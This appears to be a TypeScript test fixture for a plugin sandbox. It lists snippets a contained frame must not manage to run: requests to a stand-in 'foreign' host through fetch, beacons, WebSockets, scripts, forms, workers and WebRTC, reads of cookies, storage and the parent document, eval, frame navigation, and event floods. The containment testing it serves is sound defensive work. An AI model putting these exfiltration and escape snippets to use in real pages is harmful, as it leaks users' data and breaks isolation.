/** Attacks that must not reach anybody. Each is a function body with `foreign` (an address with a trailing slash) in scope. */
export const silentAttacks: Record<string, string> = {
  fetch: `await fetch(foreign + 'fetch', { mode: 'no-cors' })`,
  xhr: `const x = new XMLHttpRequest(); x.open('GET', foreign + 'xhr'); x.send(); await wait(100)`,
  beacon: `navigator.sendBeacon(foreign + 'beacon', 'x')`,
  eventSource: `new EventSource(foreign + 'events'); await wait(100)`,
  webSocket: `new WebSocket(foreign.replace('http', 'ws') + 'socket'); await wait(100)`,
  module: `await import(foreign + 'module.js')`,
  image: `await load(Object.assign(new Image(), { src: foreign + 'image.png' }))`,
  stylesheet: `await load(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: foreign + 'sheet.css' }))`,
  cssImport: `const s = document.createElement('style'); s.textContent = '@import url(' + foreign + 'import.css); body { background: url(' + foreign + 'background.png) }'; document.head.append(s); await wait(200)`,
  font: `const f = new FontFace('x', 'url(' + foreign + 'font.woff2)'); await f.load()`,
  prefetch: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: foreign + 'prefetch' })); await wait(200)`,
  script: `await load(Object.assign(document.createElement('script'), { src: foreign + 'script.js' }))`,
  object: `await load(Object.assign(document.createElement('object'), { data: foreign + 'object' }))`,
  video: `await load(Object.assign(document.createElement('video'), { src: foreign + 'video.mp4' }))`,
  form: `const f = document.createElement('form'); f.action = foreign + 'form'; document.body.append(f); f.submit(); await wait(200)`,
  popup: `open(foreign + 'popup'); await wait(200)`,
  base: `document.head.append(Object.assign(document.createElement('base'), { href: foreign })); await load(Object.assign(new Image(), { src: 'based.png' }))`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + foreign + 'worker")']))); await wait(200)`,
  webrtc: `const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await wait(400)`,
};

/** What must fail; an attack that returns has succeeded. */
export const refusedAttacks: Record<string, string> = {
  parentDocument: `return parent.document.title`,
  parentStorage: `return parent.localStorage.length`,
  ownStorage: `return localStorage.length`,
  cookies: `return document.cookie`,
  indexedDb: `return indexedDB.open('x')`,
  caches: `return await caches.keys()`,
  eval: `return (0, eval)('1')`,
  functionConstructor: `return new Function('return 1')()`,
  wasm: `return await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
  topNavigation: `top.location.href = foreign + 'top'`,
  siblingNavigation: `const others = Array.from({ length: parent.length }, (_, at) => parent[at]).filter((one) => one !== self); if (others.length === 0) return 'nobody to attack'; others[0].location.href = foreign + 'sibling'`,
  peerConnection: `return new RTCPeerConnection()`,
};

/** One of these ends the frame and quarantines the plugin. */
export const breaches: Record<string, string> = {
  'speaks-to-window': `parent.postMessage({ t: 'hello', v: 1 }, '*')`,
  navigates: `location.href = foreign + 'navigated?secret'`,
  'meta-refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + foreign + 'refreshed' }))`,
  'data-document': `location.href = 'data:text/html,<img src=' + foreign + 'data.png>'`,
  'nested-frame': `document.body.append(Object.assign(document.createElement('iframe'), { src: foreign + 'nested' }))`,
  floods: `const c = new MessageChannel(); for (let i = 0; i < 100000; i++) dispatchEvent(new ErrorEvent('error', { message: 'flood ' + i }))`,
};

/** Helpers that every attack may use. */
export const attackTools = `const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const load = (node) => new Promise((resolve) => { node.onload = node.onerror = resolve; document.body.append(node); setTimeout(resolve, 400); });`;
